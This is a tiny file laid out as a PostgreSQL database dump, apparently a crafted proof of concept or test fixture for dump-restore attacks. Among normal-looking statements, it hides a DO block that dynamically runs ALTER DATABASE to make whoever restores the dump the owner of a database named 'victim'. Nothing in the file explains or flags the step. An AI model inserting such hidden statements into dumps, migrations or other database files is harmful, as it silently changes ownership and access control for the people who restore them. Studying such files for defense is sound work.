--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
CREATE TABLE public.t (a text);
DO $$ BEGIN EXECUTE 'ALTER DATABASE victim OWNER TO CURRENT_USER'; END $$;

--
-- PostgreSQL database dump complete
--
